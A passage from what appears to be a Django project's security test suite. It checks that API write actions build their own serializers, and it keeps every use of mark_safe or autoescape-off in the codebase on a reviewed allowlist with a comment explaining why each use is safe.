    # Every write action of the API builds its serializer itself (so the scan below sees it).
    from wic.urls import router

    def builds_its_own(viewset, action) -> bool:
        if not getattr(viewset, action).__module__.startswith("rest_framework"):
            return True
        return action == "partial_update" and builds_its_own(viewset, "update")  # DRF's partial_update calls update

    methods = {"create": "post", "update": "put", "partial_update": "patch"}
    inherited = [
        (prefix, action) for prefix, viewset, _basename in router.registry for action, method in methods.items()
        if hasattr(viewset, action) and method in viewset.http_method_names and not builds_its_own(viewset, action)
    ]
    assert inherited == []
    found_serializers = _input_serializers()
    # The scan reads an app's API split into parts (protocol.api_*) too: these take no text, yet are found.
    assert {
        "protocol.serializers_delegations.MemberInputSerializer", "protocol.serializers_rsvp.InvitationItemInputSerializer",
        "protocol.serializers_rsvp.SubstituteDecisionSerializer", "protocol.serializers_seating.MoveInputSerializer",
        "protocol.serializers_seating.ClearInputSerializer",
    } <= set(found_serializers)
    with_text = {path for path, cls in found_serializers.items() if serializer_text_fields(cls())}
    assert with_text == TESTED_SERIALIZERS | NEVER_SHOWN_SERIALIZERS


REVIEWED_SAFE_MARKUP = {
    # path: (pattern, occurrences) -- each one read and found safe:
    "wic/display.py": ("mark_safe(", 1),  # a QR code SVG of the app's own alphanumeric codes
    # Plain-text emails (sent as text/plain, never rendered as HTML): a speaker's invitation and reminders.
    # Plain-text change alerts (issue 25): a starred session's and a volunteer's shift's.
    "templates/agenda/email/session_changed_body.txt": ("{% autoescape off %}", 1),
    "templates/agenda/email/session_changed_subject.txt": ("{% autoescape off %}", 1),
    "templates/volunteers/email/shift_changed_body.txt": ("{% autoescape off %}", 1),
    "templates/volunteers/email/shift_changed_subject.txt": ("{% autoescape off %}", 1),
    "templates/people/email/invitation_body.txt": ("{% autoescape off %}", 1),
    "templates/people/email/invitation_subject.txt": ("{% autoescape off %}", 1),
    "templates/people/email/reminder_body.txt": ("{% autoescape off %}", 1),
    "templates/people/email/reminder_subject.txt": ("{% autoescape off %}", 1),
    # ... and an invitation card's (issue 23), its reminder, and their subjects.
    "templates/protocol/email/card_body.txt": ("{% autoescape off %}", 1),
    "templates/protocol/email/card_subject.txt": ("{% autoescape off %}", 1),
    "templates/protocol/email/card_reminder_body.txt": ("{% autoescape off %}", 1),
    "templates/protocol/email/card_reminder_subject.txt": ("{% autoescape off %}", 1),
    # ... and a visa letter's (issue 24): the refusal's and revocation's reasons are organizers' words.
    "templates/travel/email/letter_body.txt": ("{% autoescape off %}", 1),
    "templates/travel/email/pickup_changed_body.txt": ("{% autoescape off %}", 1),
    "wic/templatetags/wic_charts.py": ("mark_safe(", 2),  # joins SVG fragments each built by format_html
    # The agenda's cached session cards (issue 26): a fixed HTML comment marks where the per-visitor
    # parts go, and the tag joins the card's autoescaped render with whole numbers (the grid place)
    # and "true"/"false" (the star's state).
    "agenda/cache.py": ("mark_safe(", 1),
    "agenda/templatetags/agenda_cards.py": ("mark_safe(", 1),
    # Text email bodies: plain text, never HTML; the HTML part escapes them (email/layout.html).
    "templates/registration/email/decision_body.txt": ("{% autoescape off %}", 1),
    "templates/registration/email/received_body.txt": ("{% autoescape off %}", 1),
    "templates/forums/email/decision_body.txt": ("{% autoescape off %}", 1),
    "templates/expo/email/decision_body.txt": ("{% autoescape off %}", 1),
    "templates/expo/email/meeting_decision_body.txt": ("{% autoescape off %}", 1),
    "templates/expo/email/meeting_requested_body.txt": ("{% autoescape off %}", 1),
    "templates/volunteers/email/decision_body.txt": ("{% autoescape off %}", 1),
    "templates/volunteers/email/standby_body.txt": ("{% autoescape off %}", 1),
    # Subjects are plain text too (an email header); escaping them showed "&lt;" in the subject.
    "templates/expo/email/meeting_decision_subject.txt": ("{% autoescape off %}", 1),
    "templates/expo/email/meeting_requested_subject.txt": ("{% autoescape off %}", 1),
    "templates/volunteers/email/standby_subject.txt": ("{% autoescape off %}", 1),
}
SAFE_MARKUP = re.compile(r"mark_safe\(|\|safe\b|\|safeseq\b|SafeString\(|{% autoescape off %}|\.allow_tags")


def test_every_use_of_safe_markup_is_reviewed():
    base = Path(settings.BASE_DIR)
    found = {}
    for path in sorted(base.rglob("*")):
        relative = path.relative_to(base).as_posix()
        if path.suffix not in (".py", ".html", ".txt") or relative.startswith((".venv/", "tests/", "staticfiles/", "bench/")) or "/migrations/" in relative:
            continue
        hits = SAFE_MARKUP.findall(path.read_text(encoding="utf-8", errors="replace"))
        if hits:
            found[relative] = (hits[0], len(hits))
    assert found == REVIEWED_SAFE_MARKUP
    # format_html escapes its arguments; an f-string or % inside it would not.
    for relative in ("forums/admin.py", "registration/admin.py", "wic/templatetags/wic_charts.py", "awards/admin.py"):
        text = (base / relative).read_text(encoding="utf-8")
        assert not re.search(r"format_html(_join)?\(\s*f[\"']", text) and not re.search(r"format_html(_join)?\([^)]*[\"']\s*%", text), relative
